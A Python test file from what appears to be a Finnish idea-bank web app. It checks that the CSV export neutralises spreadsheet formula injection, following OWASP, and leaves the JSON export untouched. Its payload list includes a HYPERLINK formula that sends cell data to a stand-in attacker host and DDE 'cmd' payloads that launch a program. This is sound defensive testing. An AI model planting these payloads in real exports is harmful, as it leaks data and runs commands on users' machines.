"""CSV injection: no cell of the open-data CSV is a live formula in a spreadsheet (OWASP's advice)."""

from __future__ import annotations

import csv
import io
import json
from datetime import date

import pytest

from factories import make_user
from ideapankki import exports, normstatus
from ideapankki.models import Role

# Each starts a formula in Excel, LibreOffice or Google Sheets (tab and CR: pasted or re-split cells).
PAYLOADS = ['=HYPERLINK("http://evil.example/?x="&A1,"Klikkaa")', "+1+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
            "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1"]


def fetch(client, url: str) -> bytes:
    response = client.get(url)
    try:
        assert response.status_code == 200
        return response.get_data()
    finally:
        response.close()


@pytest.fixture
def hostile(entry_factory, app_session):
    for i, payload in enumerate(PAYLOADS):
        entry_factory(f"kaava-{i}", title=payload, summary=payload, tags=[payload.strip()], origin=payload,
                      type="idea", body=payload)
    norm = entry_factory("normi", type="norm", title="Normi", laws=[{"title": "Laki", "number": "540/2018"}],
                         proposal={"action": "loosen", "justification": "-1 päivä", "proposer_role": "official"})
    moderator = make_user(app_session, "moderaattori@kuntaliitto.fi", role=Role.moderator)
    normstatus.record(app_session, norm, moderator, "sent_to_ministry", date(2024, 1, 2))
    app_session.commit()


def test_no_cell_of_the_csv_starts_a_formula(client, hostile):
    raw = fetch(client, "/data/ideapankki-entries.csv")
    assert raw.startswith(b"\xef\xbb\xbf")  # the UTF-8 byte order mark: Finnish Excel reads ä and ö right
    text = raw.decode("utf-8-sig")
    cells = [cell for row in csv.reader(io.StringIO(text, newline="")) for cell in row]
    assert cells and not [c for c in cells if c.startswith(exports.FORMULA_STARTS)]
    assert text.startswith('"slug","url","type"')  # every field quoted
    rows = {r["slug"]: r for r in csv.DictReader(io.StringIO(text, newline=""))}
    for i, payload in enumerate(PAYLOADS):
        assert rows[f"kaava-{i}"]["title"] == "'" + payload  # neutralised, and nothing else changed
        assert rows[f"kaava-{i}"]["body_markdown"].startswith("'")
    assert rows["normi"]["proposal_justification"] == "'-1 päivä"
    assert rows["normi"]["norm_status"] == "sent_to_ministry" and rows["kaava-0"]["norm_status"] == ""
    data = json.loads(fetch(client, "/data/ideapankki-entries.json"))  # the JSON keeps the text as written
    assert {e["title"] for e in data["entries"]} >= set(PAYLOADS)
    readme = fetch(client, "/data/README.md").decode()
    assert "OWASP" in readme and "`norm_status`" in readme and "byte order mark" in readme


def test_ordinary_cells_are_untouched():
    assert exports.neutralise("Kajaani;Vaasa") == "Kajaani;Vaasa"
    assert exports.neutralise("2022-05-25") == "2022-05-25" and exports.neutralise("") == ""
    assert exports.neutralise("a=b") == "a=b"
